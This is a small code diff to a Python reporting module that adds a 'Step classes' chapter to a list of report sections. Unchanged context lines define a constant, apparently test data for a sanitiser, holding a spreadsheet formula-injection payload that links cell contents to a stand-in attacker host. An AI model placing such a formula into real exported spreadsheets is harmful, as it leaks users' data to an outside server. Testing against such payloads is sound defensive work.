@@ -12,7 +12,8 @@ from warehouse import db
 from warehouse.cli import cli
 from warehouse.model.classify import load_rules
 
-CHAPTERS = ["Summary", "Steps", "Step percentiles", "Pipeline coverage", "Layers and blocks", "Findings",
+CHAPTERS = ["Summary", "Steps", "Step percentiles", "Pipeline coverage", "Step classes", "Layers and blocks",
+            "Findings",
             "Top kernels", "Bound families", "Communication", "Memory", "Evidence"]
 #: a kernel name an attacker controls: a formula, an error value, a control character
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
